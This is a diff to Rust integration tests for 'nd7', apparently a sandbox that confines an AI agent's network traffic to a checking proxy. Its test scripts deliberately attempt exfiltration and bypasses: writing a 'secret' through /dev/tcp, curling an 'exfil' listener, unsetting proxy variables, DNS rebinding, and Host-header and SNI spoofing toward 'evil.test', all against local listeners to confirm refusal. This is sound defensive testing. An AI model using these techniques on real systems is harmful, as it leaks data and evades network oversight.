@@ -112,7 +112,6 @@ x direct-allowed bash -c 'echo secret > /dev/tcp/127.0.0.1/{reg}'
 x vault bash -c 'echo hi > /dev/tcp/127.0.0.1/{vault}'
 x no-proxy env -u HTTP_PROXY -u http_proxy -u ALL_PROXY -u all_proxy curl -sf --max-time 5 http://127.0.0.1:{exfil}/
 x refused curl -sf http://127.0.0.1:{exfil}/leak
-x unreachable bash -c 'echo hi > /dev/tcp/192.0.2.1/80'
 {six_line}
 echo dnsq > /dev/udp/127.0.0.1/{dns_port}
 echo "$HTTPS_PROXY" > "$PWD/proxy"
@@ -131,7 +130,6 @@ echo "$HTTPS_PROXY" > "$PWD/proxy"
             "vault:no",
             "no-proxy:no",
             "refused:no",
-            "unreachable:no",
             "ipv6:no"
         ],
         "{}",
@@ -159,12 +157,45 @@ echo "$HTTPS_PROXY" > "$PWD/proxy"
     assert!(
         net.iter().any(|e| e["body"]["verdict"] == "refused"
             && e["body"]["host"] == "127.0.0.1"
-            && e["body"]["allow"] == format!("nd7 allow --net 127.0.0.1:{}", exfil.port)),
+            && e["body"]["allow"] == format!("nd7 allow --net 127.0.0.1:{}", exfil.port)
+            && e["body"]["process"] == "curl"
+            && e["body"]["pid"].as_u64().is_some()),
         "{net:?}"
     );
     assert!(net.iter().all(|e| e["source"] == "effect:nd7-proxy"));
     let v = verify(&w, &run_dirs(&w)[0]);
     assert!(v.status.success(), "{}", text(&v.stdout));
+    // The readers: show lists the hosts and marks the refusal; search finds
+    // a host across sessions.
+    let id = run_dirs(&w)[0]
+        .file_name()
+        .expect("name")
+        .to_string_lossy()
+        .into_owned();
+    let show = text(&w.nd7(&["show", &id]).output().expect("nd7 show").stdout);
+    assert!(
+        show.lines()
+            .any(|l| l.contains("net")
+                && l.contains(&format!("localhost:{} allowed", registry.port))),
+        "{show}"
+    );
+    assert!(
+        show.lines()
+            .any(|l| l.contains("REFUSED")
+                && l.contains(&format!("127.0.0.1:{} refused", exfil.port))),
+        "{show}"
+    );
+    let found = w
+        .nd7(&["search", "localhost"])
+        .output()
+        .expect("nd7 search");
+    let found = text(&found.stdout);
+    assert!(
+        found
+            .lines()
+            .any(|l| l.contains(" host ") && l.ends_with(" localhost")),
+        "{found}"
+    );
     let err = text(&out.stderr);
     assert!(
         err.contains(&format!(
@@ -173,19 +204,48 @@ echo "$HTTPS_PROXY" > "$PWD/proxy"
         )),
         "{err}"
     );
-    // The session is over; its proxy was never on the host's loopback.
+}
+
+/// Guards the network namespace (`netns::enter`, the proxy's listener made
+/// inside it): while the session runs, nothing outside it (another local
+/// user, any process of the account's) can use its proxy as a relay.
+#[test]
+fn the_sessions_proxy_is_no_relay_for_anyone_outside() {
+    let w = World::new();
+    let target = Listener::on("127.0.0.1:0", "target");
+    grants(&w, &format!("net localhost:{}\n", target.port));
+    let (child, _) =
+        w.start_agent(r#"echo "$HTTPS_PROXY" > proxy; touch ready; wait_for done; echo over"#);
+    w.wait_for("ready");
     let proxy = std::fs::read_to_string(w.proj().join("proxy")).expect("proxy");
-    let port = proxy.trim().rsplit(':').next().expect("port");
-    assert!(
-        TcpStream::connect(format!("127.0.0.1:{port}")).is_err()
-            || !proxy.starts_with("http://127.0.0.1:")
-    );
+    let port = proxy
+        .trim()
+        .strip_prefix("http://127.0.0.1:")
+        .unwrap_or_else(|| panic!("no proxy given: {proxy:?}"))
+        .to_string();
+    let relay = TcpStream::connect(format!("127.0.0.1:{port}")).and_then(|mut s| {
+        let p = target.port;
+        write!(
+            s,
+            "GET http://localhost:{p}/ HTTP/1.1\r\nHost: localhost:{p}\r\n\r\n"
+        )?;
+        let mut got = String::new();
+        s.read_to_string(&mut got)?;
+        Ok(got)
+    });
+    w.signal("done");
+    let out = child.wait_with_output().expect("nd7 run");
+    assert_eq!(lines(&out), ["over"], "{}", text(&out.stderr));
+    assert!(relay.is_err(), "the proxy answered from outside: {relay:?}");
+    assert_eq!(target.received(), "");
 }
 
 /// Guards the proxy's judgment (`Rules::judge`, rebinding and IP literals)
 /// and the Host and SNI checks in `src/egress.rs`: an allowed name that
-/// resolves to loopback or the metadata address, an IP literal not granted
-/// as one, a Host header and a TLS server name other than the host asked for.
+/// resolves to loopback (IPv4-mapped too), an IP literal not granted as
+/// one, a Host header and a TLS server name other than the host asked for.
+/// (The metadata, link-local and private ranges are the unit tests' in
+/// `policy::net`: with the guard out, a test here would reach them.)
 #[test]
 fn names_are_checked_where_they_are_used() {
     let w = World::new();
@@ -193,12 +253,12 @@ fn names_are_checked_where_they_are_used() {
     let p = target.port;
     grants(
         &w,
-        &format!("net rebind.test:{p}\nnet metadata.test\nnet localhost:{p}\n"),
+        &format!("net rebind.test:{p}\nnet mapped.test:{p}\nnet localhost:{p}\n"),
     );
     let body = format!(
         r#"{X}
 x rebind-loopback curl -sf http://rebind.test:{p}/
-x rebind-metadata curl -sf --max-time 5 http://metadata.test/
+x rebind-mapped curl -sf http://mapped.test:{p}/
 x ip-literal curl -sfp https://127.0.0.2:{p}/
 x host-header curl -sf -H 'Host: evil.test' http://localhost:{p}/
 x sni curl -sfk -p --connect-to evil.test:{p}:localhost:{p} https://evil.test:{p}/
@@ -209,7 +269,7 @@ x allowed curl -sf http://localhost:{p}/
         .nd7(&["run", &w.agent(&body)])
         .env(
             "ND7_TEST_HOSTS",
-            "rebind.test=127.0.0.1,metadata.test=169.254.169.254",
+            "rebind.test=127.0.0.1,mapped.test=::ffff:127.0.0.1",
         )
         .output()
         .expect("nd7 run");
@@ -217,7 +277,7 @@ x allowed curl -sf http://localhost:{p}/
         lines(&out),
         [
             "rebind-loopback:no",
-            "rebind-metadata:no",
+            "rebind-mapped:no",
             "ip-literal:no",
             "host-header:no",
             "sni:no",
@@ -237,7 +297,10 @@ x allowed curl -sf http://localhost:{p}/
         why.iter().any(|w| w.contains("a loopback address")),
         "{why:?}"
     );
-    assert!(why.iter().any(|w| w.contains("cloud metadata")), "{why:?}");
+    assert!(
+        why.iter().any(|w| w.contains("::ffff:127.0.0.1")),
+        "{why:?}"
+    );
     assert!(why.iter().any(|w| w.contains("Host header")), "{why:?}");
     assert!(why.iter().any(|w| w.contains("TLS server name")), "{why:?}");
 }
@@ -373,4 +436,38 @@ curl -sf --max-time 30 "$ANTHROPIC_BASE_URL/v1/messages" && echo api:yes || echo
     );
     assert!(got.contains(&"hello from api".to_string()), "{got:?}");
     assert!(got.contains(&"api:yes".to_string()), "{got:?}");
+}
+
+/// Where user namespaces are refused nothing keeps the network: the banner
+/// says so in one line, `nd7 doctor` too, and `--net strict` refuses to
+/// start (exit 2, the program never run).
+#[test]
+fn without_user_namespaces_egress_is_said_to_be_unenforced_and_strict_refuses() {
+    let w = World::new().without_user_namespaces();
+    let out = w.run_agent("echo ran");
+    assert_eq!(lines(&out), ["ran"], "{}", text(&out.stderr));
+    let err = text(&out.stderr);
+    assert!(
+        err.lines().any(|l| l.starts_with(
+            "nd7 run: not enforced on this system: what the agent may send over the network"
+        )),
+        "{err}"
+    );
+    let agent = w.agent("echo ran");
+    let strict = w
+        .nd7(&["run", "--net", "strict", &agent])
+        .output()
+        .expect("nd7 run");
+    assert_eq!(strict.status.code(), Some(2), "{}", text(&strict.stderr));
+    assert!(lines(&strict).is_empty());
+    assert!(
+        text(&strict.stderr).contains("--net strict"),
+        "{}",
+        text(&strict.stderr)
+    );
+    let doctor = text(&w.nd7(&["doctor"]).output().expect("nd7 doctor").stdout);
+    assert!(
+        doctor.contains("the network is not kept to nd7's proxy here"),
+        "{doctor}"
+    );
 }
